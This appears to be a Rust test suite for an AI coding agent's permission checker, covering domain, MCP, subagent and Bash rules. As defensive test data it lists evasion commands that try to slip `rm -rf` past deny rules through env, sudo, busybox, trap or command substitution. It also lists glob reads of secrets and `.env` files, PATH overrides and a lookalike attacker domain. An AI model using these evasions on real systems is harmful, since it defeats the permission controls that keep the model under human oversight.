        fetch(
            &[("allow", "WebFetch(domain:*.example.com)")],
            "default",
            "https://a.b.example.com/"
        ),
        d("allow")
    );
    assert_eq!(
        fetch(
            &[("allow", "WebFetch(domain:*.example.com)")],
            "default",
            "https://example.com/"
        ),
        d("ask")
    );
    assert_eq!(
        fetch(
            &[("allow", "WebFetch(domain:api.*.com)")],
            "default",
            "https://api.x.com/"
        ),
        d("allow")
    );
    assert_eq!(
        fetch(
            &[("allow", "WebFetch(domain:api.*.com)")],
            "default",
            "https://api.x.y.com/"
        ),
        d("ask")
    );
    assert_eq!(
        fetch(
            &[("deny", "WebFetch(domain:*)")],
            "bypassPermissions",
            "https://x.org/"
        ),
        d("deny")
    );
    assert_eq!(
        fetch(
            &[("allow", "WebFetch(domain:evil.com)")],
            "default",
            "https://evil.com.attacker.net/"
        ),
        d("ask")
    );
    assert_eq!(
        fetch(
            &[("allow", "WebFetch(domain:evil.com)")],
            "default",
            "https://user@evil.com:8080/x"
        ),
        d("allow")
    );
    assert_eq!(fetch(&[], "default", "https://x.org/"), d("ask"));
    assert_eq!(fetch(&[], "dontAsk", "https://x.org/"), d("deny"));

    let ctx = p.ctx(&[("deny", "WebFetch")], mode("default"));
    assert!(ctx.rules.hides("WebFetch"));
    let ctx = p.ctx(&[("deny", "WebFetch(domain:*)")], mode("default"));
    assert!(!ctx.rules.hides("WebFetch"));

    let mcp = |rules: &[(&str, &str)], m: &str, tool: &str, input: serde_json::Value| {
        check(&p.ctx(rules, mode(m)), tool, input).decision
    };
    assert_eq!(
        mcp(
            &[("allow", "mcp__github")],
            "default",
            "mcp__github__get_issue",
            json!({})
        ),
        d("allow")
    );
    assert_eq!(
        mcp(
            &[("allow", "mcp__github__*")],
            "default",
            "mcp__github__get_issue",
            json!({})
        ),
        d("allow")
    );
    assert_eq!(
        mcp(
            &[("allow", "mcp__github__get_*")],
            "default",
            "mcp__github__get_issue",
            json!({})
        ),
        d("allow")
    );
    assert_eq!(
        mcp(
            &[("allow", "mcp__github__get_*")],
            "default",
            "mcp__github__delete_repo",
            json!({})
        ),
        d("ask")
    );
    assert_eq!(
        mcp(
            &[("allow", "mcp__github__get_issue")],
            "default",
            "mcp__github__get_issue",
            json!({})
        ),
        d("allow")
    );
    assert_eq!(
        mcp(
            &[("allow", "mcp__github")],
            "default",
            "mcp__githubx__get",
            json!({})
        ),
        d("ask")
    );
    assert_eq!(
        mcp(
            &[("allow", "mcp__*")],
            "default",
            "mcp__github__get_issue",
            json!({})
        ),
        d("ask")
    );
    assert_eq!(
        mcp(
            &[("allow", "*")],
            "default",
            "mcp__github__get_issue",
            json!({})
        ),
        d("ask")
    );
    assert_eq!(
        mcp(
            &[("deny", "mcp__*")],
            "bypassPermissions",
            "mcp__a__b",
            json!({})
        ),
        d("deny")
    );
    assert_eq!(
        mcp(
            &[("deny", "*")],
            "bypassPermissions",
            "mcp__a__b",
            json!({})
        ),
        d("deny")
    );
    assert_eq!(
        mcp(
            &[("deny", "mcp__a__b(force:true)")],
            "bypassPermissions",
            "mcp__a__b",
            json!({"force": true})
        ),
        d("deny")
    );
    assert_eq!(
        mcp(
            &[("deny", "mcp__a__b(force:true)")],
            "bypassPermissions",
            "mcp__a__b",
            json!({})
        ),
        d("allow")
    );
    assert_eq!(
        mcp(
            &[("ask", "mcp__a(branch:main*)")],
            "bypassPermissions",
            "mcp__a__push",
            json!({"branch": "main-2"})
        ),
        d("ask")
    );
    assert_eq!(
        mcp(&[], "bypassPermissions", "mcp__a__b", json!({})),
        d("allow")
    );

    let agent = |rules: &[(&str, &str)], m: &str, input: serde_json::Value| {
        check(&p.ctx(rules, mode(m)), "Agent", input).decision
    };
    assert_eq!(
        agent(
            &[("deny", "Agent(Explore)")],
            "default",
            json!({"subagent_type": "Explore", "prompt": "x"})
        ),
        d("deny")
    );
    assert_eq!(
        agent(
            &[("deny", "Agent(Explore)")],
            "default",
            json!({"subagent_type": "Plan", "prompt": "x"})
        ),
        d("allow")
    );
    assert_eq!(
        agent(
            &[("deny", "Agent(model:opus)")],
            "default",
            json!({"model": "opus", "prompt": "x"})
        ),
        d("deny")
    );
    assert_eq!(
        agent(
            &[("deny", "Task(model:opus)")],
            "default",
            json!({"model": "opus", "prompt": "x"})
        ),
        d("deny")
    );
    assert_eq!(
        agent(
            &[("deny", "Agent(model:opus)")],
            "default",
            json!({"prompt": "x"})
        ),
        d("allow")
    );
    assert_eq!(
        agent(
            &[("ask", "Agent(isolation:worktree)")],
            "bypassPermissions",
            json!({"isolation": "worktree", "prompt": "x"})
        ),
        d("ask")
    );

    assert_eq!(
        check(
            &p.ctx(&[], mode("bypassPermissions")),
            "AskUserQuestion",
            json!({"questions": []})
        )
        .decision,
        d("ask")
    );
    assert_eq!(
        check(
            &p.ctx(&[], mode("dontAsk")),
            "AskUserQuestion",
            json!({"questions": []})
        )
        .decision,
        d("deny")
    );
    assert_eq!(
        check(
            &p.ctx(&[("allow", "AskUserQuestion")], mode("default")),
            "AskUserQuestion",
            json!({})
        )
        .decision,
        d("ask")
    );
    let a = check(&p.ctx(&[], mode("default")), "NoSuchTool", json!({}));
    assert!(a.reason.contains("unknown tool"), "{}", a.reason);
    let a = check(
        &p.ctx(&[], mode("default")),
        "Read",
        json!({"file_pth": "x"}),
    );
    assert!(a.reason.contains("invalid input"), "{}", a.reason);
}

#[test]
fn global_options_globs_and_shell_variables() {
    let git: &[(&str, &str)] = &[("allow", "Bash(git *)"), ("deny", "Bash(git push *)")];
    let none: &[(&str, &str)] = &[];
    run_bash_rows(&[
        (git, "default", "git -C . push", "deny"),
        (git, "default", "git --no-pager push origin", "deny"),
        (git, "default", "git -c user.name=x push", "deny"),
        (git, "default", "git status", "allow"),
        (git, "default", "git commit -m 'a && git push'", "allow"),
        (none, "default", "x=1; echo $x", "allow"),
        (none, "default", "PATH=/tmp; ls", "ask"),
        (none, "default", "http_proxy=x; ls", "ask"),
        (none, "default", "export LANG=C; ls", "allow"),
        (none, "default", "export PATH=/x; ls", "ask"),
        (
            none,
            "default",
            "[ -f README.md ] && cat README.md",
            "allow",
        ),
        (none, "default", "for i in 1 2 3; do echo $i; done", "allow"),
        (
            &[("deny", "Bash(rm *)")],
            "default",
            "export X=$(rm -rf y)",
            "deny",
        ),
        (
            &[("deny", "Bash(rm *)")],
            "default",
            "local a=`rm x`",
            "deny",
        ),
    ]);
    let p = Project::new().expect("project");
    std::fs::create_dir_all(p.root.join("secrets")).expect("mkdir");
    std::fs::write(p.root.join("secrets/key"), "k").expect("write");
    std::fs::write(p.root.join(".env"), "e").expect("write");
    let ctx = p.ctx(
        &[("deny", "Read(./secrets/**)"), ("deny", "Read(.env)")],
        mode("default"),
    );
    for (cmd, expected) in [
        ("cat sec*/key", "deny"),
        ("head -n1 */key", "deny"),
        ("cat .e*", "deny"),
        ("cat *", "deny"),
        ("cat *.md", "allow"),
        ("cat nomatch*", "allow"),
        ("grep -r foo secrets", "deny"),
        ("ls secrets", "deny"),
        ("rg pattern secrets/", "deny"),
        ("ls src", "allow"),
        ("cat $F", "ask"),
    ] {
        let a = bash(&ctx, cmd);
        assert_eq!(a.decision, parse_behavior(expected), "{cmd}: {}", a.reason);
    }
}

#[test]
fn sed_in_place_outside_the_working_directories() {
    let sed: &[(&str, &str)] = &[("allow", "Bash(sed *)")];
    run_bash_rows(&[
        (sed, "default", "sed -i s/a/b/ README.md", "allow"),
        (sed, "default", "sed -i s/a/b/ /etc/hosts", "ask"),
        (sed, "default", "sed -i.bak -e s/a/b/ ../other.txt", "ask"),
        (
            &[("allow", "Bash(sed -i s/a/b/ /etc/hosts)")],
            "default",
            "sed -i s/a/b/ /etc/hosts",
            "allow",
        ),
        (sed, "default", "sed -n 1p /etc/hosts", "allow"),
    ]);
}

#[test]
fn deny_rules_see_through_environment_runners() {
    let rules: &[(&str, &str)] = &[("allow", "Bash(*)"), ("deny", "Bash(rm *)")];
    let mut rows: Vec<BashRow<'_>> = Vec::new();
    for cmd in [
        "coproc rm x",
        "env rm x",
        "env -i FOO=1 /bin/rm x",
        "/usr/bin/env rm x",
        "busybox rm x",
        "sudo -u root rm -rf x",
        "sudo env rm x",
        "doas rm x",
        "direnv exec . rm x",
        "env -S \"rm -rf x\"",
        "strace -f rm x",
        "exec rm x",
        "trap 'rm x' EXIT",
        "declare -x a=$(rm x)",
        "select i in a; do rm x; done",
        "until rm x; do :; done",
        "echo >(rm x)",
    ] {
        rows.push((rules, "bypassPermissions", cmd, "deny"));
    }
    rows.push((rules, "default", "git rm x", "allow"));
    rows.push((rules, "default", "alias r=rm; r x", "ask"));
    rows.push((rules, "default", "IFS=,; x=rm,-rf; $x", "ask"));
    run_bash_rows(&rows);
}
